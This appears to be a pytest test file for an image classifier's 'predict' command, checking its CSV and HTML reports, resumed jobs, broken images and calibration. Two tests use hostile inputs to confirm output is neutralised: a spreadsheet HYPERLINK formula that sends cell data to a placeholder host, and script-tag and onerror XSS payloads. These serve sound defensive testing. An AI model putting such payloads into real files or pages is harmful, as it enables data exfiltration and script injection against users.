"""The command `predict`: a row a photograph, whatever happens, and a page that hides nothing."""

import csv
import io
import json
import logging
import re

import pytest
import torch
from carded import NAMES, ColourNamer, card, digest
from PIL import Image

from finer1_lite import predict
from finer1_lite.__main__ import main
from finer1_lite.data import tables
from finer1_lite.data.images import PictureError
from finer1_lite.evals import predictions
from finer1_lite.runtime.checkpoints import NotFinite
from finer1_lite.runtime.files import DataError
from finer1_lite.students import card as cards
from finer1_lite.students import run_cards

FIT = {"accuracy": 0.5, "confidence": 0.6, "ece": 0.1, "brier": 0.4, "n": 8}
CALIBRATED = {
    "0": {"temperature": 1.0, "agreement": 0.0, "n": 8, "source": "tests"}
    | {"measured": dict.fromkeys(("likelihood", "agreement", "combined"), FIT)}
}


@pytest.fixture
def photos(tmp_path):
    """Six pictures at two depths: two a name, the second less sure; and what is left out."""
    root = tmp_path / "photos"
    for i in range(6):
        shade = tuple((150 if i < 3 else 102) if i % 3 == c else 100 for c in range(3))
        path = root / ("deep/er" if i % 2 else ".") / f"{i}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (12 + i, 12), shade).save(path)
    (root / "notes.txt").write_text("x")
    (root / "._0.png").write_bytes(b"x")
    return root


@pytest.fixture
def namer(tmp_path, monkeypatch):
    """What `predict.load` gives, whatever it is asked for."""
    made = ColourNamer(tmp_path / "model", card(calibration=CALIBRATED))
    (tmp_path / "model").mkdir()
    monkeypatch.setattr(predict, "load", lambda source, base=None: made)
    return made


def names(found, threshold=0.5):
    return [found.name(row, threshold) for row in found.rows]


def run(photos, tmp_path, *options):
    """The command line; its exit code."""
    return main(["predict", "model", str(photos), "--out", str(tmp_path), *map(str, options)])


def table(tmp_path):
    text = (tmp_path / "predictions" / "predictions.csv").read_text("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def page(tmp_path):
    return (tmp_path / "predictions" / "predictions.html").read_text("utf-8")


# --- photographs in, rows out --------------------------------------------------------


def test_a_row_for_every_photograph_at_any_depth(photos, namer, tmp_path, capsys, caplog):
    caplog.set_level(logging.INFO)
    assert run(photos, tmp_path) == 0
    rows = table(tmp_path)
    assert {row["file"] for row in rows} == {str(p) for p in photos.rglob("[0-5].png")}
    by_file = {row["file"].split("/")[-1]: row for row in rows}
    sure, unsure = by_file["0.png"], by_file["3.png"]
    assert sure["name"] == "red kite" and float(sure["confidence"]) > 0.9
    assert unsure["name"] == "unknown" and unsure["best guess"] == "red kite"
    assert {unsure["name 2"], unsure["name 3"]} == {"barn owl", "great tit"}
    assert sure["agrees"] == "True" and sure["answer"] == "red kite"
    assert sure["completion"].startswith("<think>") and sure["confidence is"] == "calibrated"
    said = capsys.readouterr().out
    assert "6 photographs: 3 named, 3 unknown (confidence under 0.5), 0 without a name" in said
    assert "red kite 1" in said and "8 held-out photographs (tests)" in said
    assert "1 .txt" in caplog.text and "1 hidden" in caplog.text


def test_a_class_called_unknown_is_a_class(photos, namer, tmp_path, capsys):
    namer.card = card(["unknown", "no name", "great tit"], calibration=CALIBRATED)
    run(photos, tmp_path)
    said = capsys.readouterr().out
    assert "6 photographs: 3 named, 3 unknown" in said and "0 without a name" in said
    assert "unknown 1, great tit 1, no name 1" in said
    assert "unknown (best guess unknown" in page(tmp_path)


def test_no_cell_of_the_table_is_a_formula(photos, namer, tmp_path):
    evil = '=HYPERLINK("http://x/?"&A1,"y")'
    namer.card = card([evil, "-b", "@c"], calibration=CALIBRATED)
    namer.completion = f"\t+{evil}"
    run(photos, tmp_path)
    cells = [cell for row in table(tmp_path) for cell in row.values()]
    assert f"'{evil}" in cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]
    back = tables.read(tmp_path / "predictions" / "predictions.csv", exact=True).rows
    assert {row["best_guess"] for _, row in back} == {evil, "-b", "@c"}
    assert {row["completion"] for _, row in back} == {namer.completion}


def test_threshold_and_number_of_names_need_no_new_answers(photos, namer, tmp_path):
    run(photos, tmp_path)
    other = tmp_path / "elsewhere" / "mine.csv"
    run(
        photos,
        tmp_path,
        "--unknown",
        0.1,
        "--top",
        1,
        "--csv",
        other,
        "--html",
        tmp_path / "p.html",
    )
    assert namer.asked == 6
    assert "unknown" not in other.read_text("utf-8") and "name 2" not in other.read_text("utf-8")
    assert "Photographs" in (tmp_path / "p.html").read_text("utf-8")


def test_a_broken_photograph_is_a_row_with_its_reason(photos, namer, tmp_path, capsys):
    (photos / "0.png").rename(photos / "no ending")  # its content tells
    (photos / "deep" / "broken.jpg").write_bytes(b"no picture")
    run(photos, tmp_path)
    (row,) = [row for row in table(tmp_path) if row["file"].endswith("broken.jpg")]
    assert row["name"] == "no name" and row["note"].startswith("is no picture")
    assert row["confidence"] == row["answer"] == row["completion"] == ""
    assert "7 photographs: 3 named, 3 unknown" in capsys.readouterr().out
    assert "Files without a name" in page(tmp_path) and "is no picture" in page(tmp_path)
    run(photos, tmp_path)
    assert namer.asked == 6  # the others are not asked again


def test_a_photograph_that_overflows_costs_its_own_name_and_is_asked_again(
    photos, namer, tmp_path, monkeypatch, capsys
):
    """In float16, say."""
    bad, real = Image.open(photos / "2.png").size, ColourNamer.look

    def look(self, pictures, samples=0):
        if any(picture.size == bad for picture in pictures):
            raise NotFinite("nan or inf in the logits")
        return real(self, pictures, samples)

    monkeypatch.setattr(ColourNamer, "look", look)
    assert run(photos, tmp_path) == 0
    (row,) = [row for row in table(tmp_path) if row["name"] == "no name"]
    assert row["file"].endswith("2.png") and row["note"] == "nan or inf in the logits"
    assert "1 without a name" in capsys.readouterr().out and namer.asked == 5
    monkeypatch.setattr(ColourNamer, "look", real)
    assert run(photos, tmp_path) == 0 and namer.asked == 6
    assert "0 without a name" in capsys.readouterr().out


def test_a_model_that_names_nothing_is_said(photos, namer, tmp_path, monkeypatch, caplog):
    def look(*_, **__):
        raise NotFinite("nan or inf in the logits")

    monkeypatch.setattr(ColourNamer, "look", look)
    assert run(photos, tmp_path) == 2
    assert "no photograph could be named" in caplog.text and "nan or inf" in caplog.text


def test_where_memory_runs_out_fewer_are_named_at_a_time(photos, namer, tmp_path, monkeypatch):
    real = ColourNamer.look

    def look(self, pictures, samples=0):
        if len(pictures) > 1:
            raise torch.OutOfMemoryError("out of memory")
        return real(self, pictures, samples)

    assert run(photos, tmp_path, "--name", "whole") == 0
    monkeypatch.setattr(ColourNamer, "look", look)
    assert run(photos, tmp_path) == 0
    rows = (tmp_path / "predictions" / "predictions.jsonl").read_text()
    assert rows == (tmp_path / "whole" / "predictions.jsonl").read_text()


def test_a_photograph_that_can_be_read_by_now_gets_its_row(photos, namer, tmp_path, monkeypatch):
    whole = predictions.images.decode

    def without_reader(path):
        if path.name == "0.png":
            raise PictureError(f"{path}: no reader of its kind is installed")
        return whole(path)

    monkeypatch.setattr(predictions.images, "decode", without_reader)
    out = tmp_path / "out"
    assert [bool(r["ranked"]) for r in predictions.run("model", [photos], out).rows].count(0) == 1
    monkeypatch.setattr(predictions.images, "decode", whole)
    assert all(row["ranked"] for row in predictions.run("model", [photos], out).rows)
    assert len((out / "predictions.jsonl").read_text().splitlines()) == 6


def test_a_photograph_that_was_trained_on_is_said(photos, namer, tmp_path):
    known = {"x": digest(photos / "0.png")}
    namer.card = namer.card.model_copy(update={"trained_on": known})
    run(photos, tmp_path)
    noted = [row["file"] for row in table(tmp_path) if row["note"] == "was trained on"]
    assert noted == [str(photos / "0.png")]


def test_all_missing_places_are_named(photos, namer, tmp_path):
    with pytest.raises(DataError) as caught:
        predictions.photographs([tmp_path / "a", photos, tmp_path / "b.jpg"])
    assert [p.split(":")[0] for p in caught.value.problems] == [
        str(tmp_path / "a"),
        str(tmp_path / "b.jpg"),
    ]
    (tmp_path / "empty").mkdir()
    with pytest.raises(DataError, match="empty: holds no photograph"):
        predictions.photographs([tmp_path / "empty"])
    twice = predictions.photographs([photos / "0.png", photos, photos])
    assert len(twice) == 6


def test_senseless_options_are_all_named(photos, tmp_path, caplog):
    assert run(photos, tmp_path, "--top", 0, "--unknown", 2, "--samples", -1, "--batch", 0) == 2
    for option in ("--top 0", "--unknown 2.0", "--samples -1", "--batch 0"):
        assert option in caplog.text


# --- interrupted, changed ------------------------------------------------------------


def test_a_killed_job_goes_on(photos, namer, tmp_path, monkeypatch):
    whole = predictions.run("model", [photos], tmp_path / "whole").rows
    namer.asked, namer.dies_after = 0, 4
    assert run(photos, tmp_path) == 130
    store = tmp_path / "predictions" / "predictions.jsonl"
    assert len(store.read_text("utf-8").splitlines()) == 4
    with store.open("a", encoding="utf-8") as file:
        file.write('{"file": "torn')
    namer.asked, namer.dies_after = 0, None
    found = predictions.run("model", [photos], tmp_path / "predictions")
    assert namer.asked == 2 and json.loads(json.dumps(found.rows)) == json.loads(json.dumps(whole))
    assert len(store.read_text("utf-8").splitlines()) == 6


def test_a_replaced_photograph_is_asked_about_again(photos, namer, tmp_path):
    before = predictions.run("model", [photos], tmp_path / "out")
    Image.new("RGB", (12, 12), (90, 90, 200)).save(photos / "0.png")
    found = predictions.run("model", [photos], tmp_path / "out")
    assert namer.asked == 7 and len(found.rows) == len(before.rows) == 6
    assert names(before)[0] == "red kite" and names(found)[0] == "great tit"


def test_another_model_or_setting_is_refused(photos, namer, tmp_path):
    predictions.run("model", [photos], tmp_path / "out")
    with pytest.raises(DataError, match="samples: 0 there, 2 now"):
        predictions.run("model", [photos], tmp_path / "out", samples=2)
    namer.card = namer.card.model_copy(update={"stage": "TAPO"})
    with pytest.raises(DataError, match="card: "):
        predictions.run("model", [photos], tmp_path / "out")
    assert len(predictions.run("model", [photos], tmp_path / "out", fresh=True).rows) == 6


# --- calibration ---------------------------------------------------------------------


def test_the_first_job_calibrates_and_the_second_finds_it(photos, namer, tmp_path, monkeypatch):
    namer.card, calls = card(world_seed=0), []
    red = predictions.photographs([photos])

    def held_out(made, folder):
        calls.append(folder)
        return [predict.Photo(p.name, NAMES[int(p.stem) % 3], p) for p in red], "six photographs"

    monkeypatch.setattr(run_cards, "held_out", held_out)
    for _ in range(2):
        run(photos, tmp_path)
    assert calls == [namer.folder] and namer.asked == 12
    assert cards.read_card(namer.folder).calibration["0"]["n"] == 6
    assert "6 held-out photographs (six photographs)" in page(tmp_path)
    assert "likelihood of names" in page(tmp_path)


def test_what_is_not_calibrated_says_so_everywhere(photos, namer, tmp_path, capsys, caplog):
    namer.card = card(photos="gone", world_seed=None)
    assert run(photos, tmp_path) == 0
    assert "not calibrated" in capsys.readouterr().out and "gone" in caplog.text
    assert {row["confidence is"] for row in table(tmp_path)} == {"not calibrated"}
    assert "not calibrated" in page(tmp_path) and "<h2>Calibration" not in page(tmp_path)


def test_under_another_base_nothing_is_calibrated_and_no_row_is_taken_over(
    photos, namer, tmp_path, caplog
):
    card_there = namer.card
    for name, byte in (("own", b"1"), ("copy", b"1"), ("other", b"2"), ("model", b"3")):
        (tmp_path / name).mkdir(exist_ok=True)
        (tmp_path / name / "model.safetensors").write_bytes(byte)
        (tmp_path / name / "config.json").write_text("{}")
    named = {"base_model_name_or_path": str(tmp_path / "own")}
    (tmp_path / "model" / "adapter_config.json").write_text(json.dumps(named))
    for base in (None, str(tmp_path / "copy")):
        found = predictions.run("model", [photos], tmp_path / f"out{base is None}", base=base)
        assert found.namer.fitted() is not None
    with pytest.raises(DataError, match="base"):
        predictions.run("model", [photos], tmp_path / "outTrue", base=str(tmp_path / "other"))
    namer.card = card_there
    found = predictions.run("model", [photos], tmp_path / "new", base=str(tmp_path / "other"))
    assert found.namer.fitted() is None and "is not the base of" in caplog.text


# --- the page ------------------------------------------------------------------------


def test_whatever_a_class_a_file_or_a_model_says_is_escaped(photos, namer, tmp_path):
    evil = "<script>alert(1)</script>"
    namer.card = card([f"a {evil}", "b & 'c'", "d"], calibration=CALIBRATED)
    namer.completion = f"<think>\nprediction: {evil}\n</think>\n<answer>\u202e{evil}</answer>"
    (photos / "0.png").rename(photos / "<img src=x onerror=alert(1)>.png")
    run(photos, tmp_path)
    text = page(tmp_path)
    assert "<script" not in text and "onerror=alert(1)>" not in text and "\u202e" not in text
    assert "&lt;script&gt;alert(1)" in text
    assert not re.search(r'(src|href)="(?!data:)', text)
    assert table(tmp_path)[0]["completion"] == namer.completion


def test_the_page_shows_the_least_sure_and_counts_the_rest(photos, namer, tmp_path, monkeypatch):
    monkeypatch.setattr(predictions, "SHOWN", 4)
    run(photos, tmp_path)
    text = page(tmp_path)
    shown = [int(n) for n in re.findall(r'alt="[^"]*?(\d)\.png"', text)]
    assert set(shown[:3]) == {3, 4, 5} and len(shown) == 4 == text.count("data:image/jpeg")
    assert "2 more stand in the table alone" in text
    assert "not in the list" in text  # of things that are none of the classes
    assert "unknown (best guess red kite" in text
